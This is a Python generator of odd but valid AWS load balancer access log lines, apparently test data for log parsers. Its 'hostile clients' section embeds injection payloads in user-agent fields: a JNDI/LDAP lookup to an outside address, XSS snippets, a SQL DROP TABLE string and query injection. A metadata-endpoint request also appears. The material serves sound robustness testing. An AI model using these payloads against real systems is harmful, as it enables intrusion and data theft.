r"""
Write odd access log lines, all of them valid.

Each entry of `ODD_SHAPES` is something that real load balancers do, or that a hostile client
can make them do, and that a parser easily gets wrong: older and unfinished generations,
requests that are no requests, `\\xHH` escapes, lists, fields that AWS has not announced yet.
None of them is a reason to reject the line.
"""

from __future__ import annotations

from datetime import timedelta
from random import Random
from types import MappingProxyType
from typing import TYPE_CHECKING, Final

from devstack.traffic.access import GENERATIONS
from devstack.traffic.clients import scene_of
from devstack.traffic.shapes import Field, bent_lines, edit, put, put_all

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from datetime import datetime

    from devstack.traffic.clients import Scene
    from devstack.traffic.shapes import Shape

_HOUR = timedelta(hours=1)
_BETWEEN_GENERATIONS = (19, 22, 26, 28, 31, 32, 35)


def odd_lines(
    seed: int,
    count: int,
    *,
    start: datetime,
    span: timedelta = _HOUR,
    load_balancer: str = "frontend-alb",
) -> Iterator[bytes]:
    """Yield odd but valid lines; `len(ODD_SHAPES)` consecutive lines show every shape once."""
    return odd_lines_of(scene_of(load_balancer, start, span), seed, count)


def odd_lines_of(scene: Scene, seed: int | str, count: int) -> Iterator[bytes]:
    """Yield `count` odd lines of this scene."""
    return bent_lines(scene, Random(f"odd/{seed}"), count, ODD_SHAPES)


def _cut(*counts: int) -> Shape:
    return lambda fields, rng: " ".join(fields[: rng.choice(counts)])


def _longer(*tails: str) -> Shape:
    return lambda fields, rng: " ".join((*fields, rng.choice(tails)))


def _first_names_of_the_server(fields: list[str], _rng: Random) -> str:
    """Write 20 fields, the last two without quotes, as the documentation of 2018 has them."""
    names = [fields[at].strip('"') for at in (Field.DOMAIN, Field.CERTIFICATE)]
    return " ".join((*fields[: Field.DOMAIN], *names))


def _malformed(*requests: str) -> Shape:
    """Return a shape of a request that the load balancer could not read: 400, nothing measured."""
    refused = {
        Field.TARGET: "-",
        Field.REQUEST_TIME: "-1",
        Field.TARGET_TIME: "-1",
        Field.RESPONSE_TIME: "-1",
        Field.STATUS: "400",
        Field.TARGET_STATUS: "-",
        Field.USER_AGENT: '"-"',
        Field.GROUP: "-",
        Field.PRIORITY: "-",
        Field.ACTIONS: '"-"',
    }
    return lambda fields, rng: put_all({**refused, Field.REQUEST: f'"{rng.choice(requests)}"'})(
        fields, rng
    )


def _long_agent(fields: list[str], rng: Random) -> str:
    agent = "Mozilla/5.0 " + "".join(rng.choices("abcdefghijklmnop ;/.", k=8_180))
    return put(Field.USER_AGENT, f'"{agent}"')(fields, rng)


def _long_url(fields: list[str], rng: Random) -> str:
    query = "&".join(f"p{number}={rng.getrandbits(64):x}" for number in range(500))
    return put(Field.REQUEST, f'"GET https://www.example.com:443/s?{query} HTTP/1.1"')(fields, rng)


def _agent(*texts: str) -> Shape:
    return put(Field.USER_AGENT, *(f'"{text}"' for text in texts))


def _request(*texts: str) -> Shape:
    return put(Field.REQUEST, *(f'"{text}"' for text in texts))


def _quoted(text: str) -> str:
    return f'"{text}"'


_SHAPES: Final[dict[str, Shape]] = {
    # Which fields there are.
    **{f"generation of {count}": _cut(count) for count in GENERATIONS[:-1]},
    "between two generations": _cut(*_BETWEEN_GENERATIONS),
    "20 fields, names unquoted": _first_names_of_the_server,
    "unknown tail": _longer('"brand-new"', '- "a b" 17', '"" "-" TID_x', '"\\xC3\\x88" next'),
    "empty tail": _longer('"-" - ""'),
    # Requests.
    "request with nothing but a host": _malformed(
        "- http://www.example.com:80- -",
        "- http://www.example.com:80- ",
        "- http://www.example.com:80-/ ",
    ),
    "request with nothing at all": _malformed("- - -", "- - - ", "-"),
    "request without version": _request("GET https://www.example.com:443/old "),
    "request without port and path": _request("GET https://example.com HTTP/2.0"),
    "request to an IPv6 host": _request(
        "GET http://[::ffff:a9fe:a9fe]:80/latest/meta-data/ HTTP/1.1",
        "GET http://[2001:db8::7]/ HTTP/1.1",
    ),
    "spaces in the URL": _request(
        "GET https://www.example.com:443/a b/c  d?q=x y HTTP/1.1",
        "GET https://www.example.com:443/HTTP/1.1 is old HTTP/1.1",
    ),
    "odd methods": _request(
        "--location https://www.example.com:443/ HTTP/1.1",
        "ZSDLKFJ2 https://www.example.com:443/ HTTP/1.1",
        "PROPFIND https://www.example.com:443/dav/ HTTP/1.1",
    ),
    "odd version": _request("GET https://www.example.com:443/ HTTP/0.9", "GET /nothing HTTP/3"),
    "odd URLs": _request(
        "GET https://www.example.com:443?only=query HTTP/1.1",
        "GET https://www.example.com:443/? HTTP/1.1",
        "GET https://www.example.com:443/a#b?c=d HTTP/1.1",
        "GET https://www.example.com:443//twice//?a=b?c=d HTTP/1.1",
        "OPTIONS * HTTP/1.1",
        "CONNECT www.example.com:443 HTTP/1.1",
    ),
    "URL of 10 KB": _long_url,
    # Escapes.
    "escaped quotes": _agent(
        r"app \x22beta\x22 1.0", r"\x22", r"\x22\x22", r"Mozilla/5.0 (\x22quoted\x22; \x22"
    ),
    "escaped backslashes": _agent(
        r"typed \x5Cx22 literally", r"C:\x5CWindows\x5CSystem32", r"\x5c\x5C", r"ends \x5C"
    ),
    "escapes of eight digits": _agent(
        r"app \x00000022beta\x00000022", r"\x000000C3\x00000088", r"\x0000000A", r"\x0000002"
    ),
    "escaped UTF-8": _agent(
        r"\xC3\x88 la vie", r"\xd0\x81\xD0\xbb\xD0\xBA\xd0\xb0", r"smile \xf0\x9f\x98\x80"
    ),
    "escaped bytes that are no UTF-8": _agent(
        r"cut \xC3", r"\xff\xfe\x41", r"surrogate \xed\xa0\x80", r"overlong \xC0\xAF"
    ),
    "escapes that are none": _agent(r"\x", r"\xZZ and \x4", r"a\nb \t \u0041", r"\X22 \\x41"),
    "escaped control characters": _agent(r"a\x00b", r"a\x0A\x0D\x09b", r"\x1B[31mred\x7F"),
    "escapes in the URL": _request(
        r"GET https://www.example.com:443/caf\xC3\xA9?q=\x22x\x22&r=%22%5C HTTP/1.1"
    ),
    "raw UTF-8": _agent("È la vie", "line\u2028separator", "next\u0085line", "no\u00a0break"),
    "raw bytes that are no UTF-8": _agent("caf\udce9", "\udcff\udcfe"),
    "raw control characters": _agent("tab\there", "bell\x07 \x0b\x0c", "\x1cgroup\x1e", "cr\rcr"),
    # Hostile clients.
    "text that looks like JSON": _agent(
        r"\x22},{\x22_id\x22:1}",
        r"\x0A{\x22delete\x22:{\x22_id\x22:\x221\x22}}\x0A",
        "{'a': [1, {{7*7}}, null]}",
        "null",
        "NaN",
    ),
    "text that looks like HTML": _agent(
        "<script>alert(1)</script>", r"<img src=x onerror=\x22alert(1)\x22>", "</td></tr>&lt;"
    ),
    "text that looks like a query": _agent(
        "* OR _exists_:password", "user_agent.original:* AND NOT (1)", "'; DROP TABLE logs;--"
    ),
    "text that looks like a lookup": _agent("${jndi:ldap://198.51.100.7/a}", "%{IP:x} ${env:PATH}"),
    "user agent of 8 KB": _long_agent,
    "user agent absent": _agent("", "-", " ", " - "),
    # Trace.
    "trace with a self": edit(
        Field.TRACE, lambda text: f'"Self=1-67c9a1f3-0011223344556677889900aa;{text[1:]}'
    ),
    "trace with more after its root": edit(
        Field.TRACE, lambda text: f'{text[:-1]};CalledFrom=app;Sampled=1;CustomField=a b"'
    ),
    "trace without a root": put(
        Field.TRACE,
        '"Self=1-67c9a1f3-0011223344556677889900aa"',
        '"root"',
        '"-"',
        '""',
        r'"\x22Root\x22"',
        '"Root="',
    ),
    # Numbers and times.
    "no status": put_all({Field.STATUS: "-", Field.TARGET_STATUS: "-"}),
    "status 000": put_all({Field.STATUS: "000", Field.TARGET_STATUS: "-", Field.ACTIONS: '"-"'}),
    "status of one's own": put(Field.STATUS, "299", "999", "1042"),
    "numbers with leading zeros": put_all({Field.RECEIVED: "0034", Field.SENT: "000"}),
    "large numbers": put_all({Field.RECEIVED: "73014444032", Field.SENT: "9007199254740993"}),
    "quoted numbers": put_all({Field.STATUS: '"200"', Field.SENT: '"5"', Field.TARGET_TIME: '"1"'}),
    "nothing measured": put_all(
        {Field.REQUEST_TIME: "-1", Field.TARGET_TIME: "-1", Field.RESPONSE_TIME: "-1"}
    ),
    "times of other precision": put_all(
        {Field.REQUEST_TIME: "0", Field.TARGET_TIME: "86400.5", Field.RESPONSE_TIME: "0.000001"}
    ),
    "rule that could not be told": put(Field.PRIORITY, "-1", "-", "50000", '"0"'),
    "time of fewer digits": edit(Field.TIME, lambda text: text[:-4] + "Z"),
    "time of whole seconds": edit(Field.TIME, lambda text: text[:19] + "Z"),
    "no creation time": put(Field.CREATED, "-", '"-"', '""'),
    # Addresses and names.
    "IPv6 client": put(Field.CLIENT, "2001:db8::1:2:443", "::ffff:192.0.2.7:51234", "::1:65535"),
    "no client": put(Field.CLIENT, "-"),
    "addresses that are none": put_all(
        {Field.CLIENT: "999.1.2.3:443", Field.TARGET: "10.0.0.256:80", Field.NODE: "not-an-ip"}
    ),
    "load balancer by its bare name": put(Field.ELB, "frontend-alb", "app/only-name", '"my-alb"'),
    "type not known yet": put(Field.TYPE, "h3", "grpc", "-", '"https"'),
    "target group not in the usual form": put(
        Field.GROUP, "arn:aws:foo:bar", "my-targets", '"a b"', "arn:aws-cn:x:targetgroup/n"
    ),
    "TLS not in the usual form": put_all({Field.CIPHER: "NULL-SHA256", Field.PROTOCOL: "SSLv3"}),
    "server name not in the usual form": put(
        *(Field.DOMAIN, '" www.example.com"', '"www.example.com:443"', '"192.0.2.9"'),
        *('"[2001:db8::9]"', '"xn--bcher-kva.example"', r'"\xC3\xBC.example"'),
    ),
    "session resumed": put(Field.CERTIFICATE, '"session-reused"', "session-reused"),
    # Lists, enumerations, and what the newer generations hold.
    "several actions": put(
        *(Field.ACTIONS, '"waf,authenticate,forward"', '"waf-failed,forward"', '"rewrite,forward"'),
        *('"authenticate-cognito,redirect"', '"waf,forward,"', '"forward"'),
    ),
    "empty actions": put(Field.ACTIONS, '""', "-", "forward"),
    "several targets": put_all(
        {Field.TARGET_LIST: '"10.0.0.1:80 10.0.0.2:80 -"', Field.STATUS_LIST: '"500 200 -"'}
    ),
    "redirect with spaces": put_all(
        {
            Field.ACTIONS: '"redirect"',
            Field.REDIRECT: r'"https://www.example.com:443/a b?q=\x22c\x22&d=%20e"',
        }
    ),
    "reason not known yet": put(Field.REASON, '"SomethingNew"', '"LambdaThrottling"', '"JWTNew"'),
    "classified": put_all(
        {Field.CLASSIFICATION: '"Ambiguous"', Field.CLASSIFICATION_REASON: '"EmptyHeader"'}
    ),
    "classified as severe": put_all(
        {Field.CLASSIFICATION: '"Severe"', Field.CLASSIFICATION_REASON: '"BadContentLength"'}
    ),
    "no connection trace": put(Field.CONNECTION, "-", "TID_dc57cebed65b444e", '""'),
    "transformed": put_all(
        {
            Field.NEW_HOST: '"new.example.com"',
            Field.NEW_URI: '"/v2/a b?x=1"',
            Field.TRANSFORM: '"TransformSuccess"',
        }
    ),
    "transformation failed": put(Field.TRANSFORM, '"TransformBufferTooSmall"', '"TransformNew"'),
    "trace without quotes": edit(Field.TRACE, lambda text: text.strip('"')),
    "free texts without quotes": put_all(
        {Field.REASON: "-", Field.USER_AGENT: "curl/8.5.0", Field.CLASSIFICATION: "Acceptable"}
    ),
    "plain values with quotes": edit(Field.GROUP, _quoted),
}
ODD_SHAPES: Final[Mapping[str, Shape]] = MappingProxyType(_SHAPES)
